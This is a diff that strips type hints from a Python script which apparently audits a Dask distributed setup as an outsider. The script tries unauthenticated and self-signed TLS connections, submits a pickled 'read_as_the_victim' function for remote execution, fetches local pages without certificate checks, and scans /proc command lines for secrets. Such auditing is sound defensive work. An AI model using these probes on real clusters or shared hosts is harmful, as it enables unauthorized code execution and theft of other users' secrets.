@@ -18,7 +18,6 @@ import tempfile
 import urllib.request
 from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
-from typing import Any
 
 import distributed
 from distributed.comm import connect
@@ -42,7 +41,7 @@ PAGES = [
 NO_CONTENT = b'{"paths": ["/sitemap.json"]}'
 
 
-def read_as_the_victim(path: str) -> tuple[int, str]:
+def read_as_the_victim(path):
     import os
     from pathlib import Path
 
@@ -50,7 +49,7 @@ def read_as_the_victim(path: str) -> tuple[int, str]:
 
 
 @functools.cache
-def contexts() -> dict[str, ssl.SSLContext]:
+def contexts():
     """Return what a stranger can offer: no certificate, or one of an authority of their own."""
     found = {}
     for name in ("without a certificate", "with a certificate of their own"):
@@ -64,9 +63,7 @@ def contexts() -> dict[str, ssl.SSLContext]:
     return found
 
 
-async def attempt(
-    message: dict[str, Any], address: str, how: str, seconds: float, **arguments: Any
-) -> list[str]:
+async def attempt(message, address, how, seconds, **arguments):
     """Return what a server let us do."""
     try:
         comm = await asyncio.wait_for(connect(address, timeout=seconds, **arguments), 2 * seconds)
@@ -79,7 +76,7 @@ async def attempt(
     )
 
 
-async def connections(ports: list[int], secret: str, seconds: float) -> list[str]:
+async def connections(ports, secret, seconds):
     run = {
         "function": dumps(read_as_the_victim),
         "args": dumps((secret,)),
@@ -108,14 +105,14 @@ async def connections(ports: list[int], secret: str, seconds: float) -> list[str
     return [line for lines in await asyncio.gather(*tried) for line in lines]
 
 
-def pages(ports: list[int], seconds: float) -> list[str]:
+def pages(ports, seconds):
     unverified = ssl.create_default_context()
     unverified.check_hostname, unverified.verify_mode = False, ssl.CERT_NONE
     opener = urllib.request.build_opener(
         urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=unverified)
     )
 
-    def got(port: int, scheme: str, page: str) -> list[str]:
+    def got(port, scheme, page):
         try:
             with opener.open(f"{scheme}://127.0.0.1:{port}{page}", timeout=seconds) as answer:
                 content = answer.read()
@@ -133,7 +130,7 @@ def pages(ports: list[int], seconds: float) -> list[str]:
     return [line for one in asked for line in one.result()]
 
 
-def files(folder: Path) -> list[str]:
+def files(folder):
     """Return the files below a folder that this user can read."""
     return [
         f"file {Path(parent, name).relative_to(folder)}"
@@ -143,7 +140,7 @@ def files(folder: Path) -> list[str]:
     ]
 
 
-def command_lines() -> list[str]:
+def command_lines():
     """Return the secrets that stand in the process list."""
     found = []
     for process in Path("/proc").glob("[0-9]*"):
@@ -155,7 +152,7 @@ def command_lines() -> list[str]:
     return found
 
 
-def main() -> None:
+def main():
     assert distributed.__version__
     asyncio.run(
         connections([1], "warm", 0.5)
